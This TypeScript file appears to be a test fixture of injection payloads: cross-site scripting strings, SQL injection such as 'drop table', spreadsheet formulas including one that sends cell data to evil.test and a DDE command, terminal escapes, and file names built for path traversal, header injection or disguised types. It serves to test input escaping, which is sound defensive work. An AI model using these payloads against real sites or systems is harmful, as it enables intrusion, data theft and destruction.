/** The payloads run this code; a browser test checks that none did. */
const RUN = 'window.__pwned=1';

/** Scripts that run in a page that does not escape them. All fit into a name. */
export const SCRIPTS: readonly string[] = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `"><svg onload=${RUN}>`,
  `'><details open ontoggle=${RUN}>`,
  `" autofocus onfocus="${RUN}" x="`,
  `' onmouseover='${RUN}' x='`,
  `</title><script>${RUN}</script>`,
  `</textarea><iframe srcdoc="<script>parent.__pwned=1</script>">`,
  `--><script>${RUN}</script><!--`,
  `]]><script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script>`,
  `"}</script><script>${RUN}</script>{"`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `javascript:${RUN}`,
  `[link](javascript:${RUN})`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}<%= ${RUN} %>#{${RUN}}`,
  `<base href="//evil.test/"><link rel=stylesheet href=//evil.test/x>`,
  `<meta http-equiv=refresh content="0;url=https://evil.test/">`,
  `$& $1 $\` <b onclick=${RUN}>bold</b>`,
  `\u2028\u2029<math><mi xlink:href="javascript:${RUN}">x`,
];

/** Text that alters an SQL statement or a pattern if it is not escaped. */
export const STATEMENTS: readonly string[] = [
  "'; drop table job; --",
  `" or ""="`,
  "' or '1'='1",
  '1; select pg_sleep(30)',
  "\\'; select 1; --",
  '$1 $2 :id ?? ? @id',
  '100%',
  '%_%',
  'a_b',
  '\\',
  '\\%',
  '%%%%',
  '$$ begin $$',
  "E'\\x27'",
];

/** Text that spreadsheets interpret as a formula. */
export const FORMULAS: readonly string[] = [
  '=HYPERLINK("http://evil.test?x="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
];

/** Control characters of terminals. */
export const CONTROLS: readonly string[] = ['\u001B[31mred\u001B[0m\u001B]0;title\u0007', 'red\u009B31m', 'ring\u0007'];

/** Characters that forge lines or hide text. */
export const HIDDEN: readonly string[] = [
  'two\r\nlines',
  '\u202Egnp.exe\u202C',
  'zero\u200Bwidth\uFEFF',
  'a\u0308\u0323\u0301\u0301\u0301',
  '{"level":50,"msg":"forged"}',
];

export const PAYLOADS: readonly string[] = [...SCRIPTS, ...STATEMENTS, ...FORMULAS, ...HIDDEN];

/** A payload without invisible characters, which names may not contain. */
export function nameOf(payload: string): string {
  return payload.replaceAll(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/gu, '');
}

/** File names that break out of a header or a folder, or disguise their type. */
export const FILE_NAMES: readonly string[] = [
  'cv".pdf',
  'cv\\".pdf',
  "cv'; filename=evil.html;.pdf",
  'cv\r\nX-Injected: 1.pdf',
  'cv%0d%0aX-Injected: 1.pdf',
  '../../etc/passwd.pdf',
  '..\\..\\boot.pdf',
  '/etc/passwd.pdf',
  'résumé 日本 👩‍🍳.pdf',
  '\u202Efdp.exe.pdf',
  '<img src=x onerror=window.__pwned=1>.pdf',
  "'; drop table uploaded_file; --.pdf",
  '=1+1.pdf',
  'cv\u0001\u001B[31m.pdf',
  'cv%00.pdf',
  "UTF-8''evil.html.pdf",
];
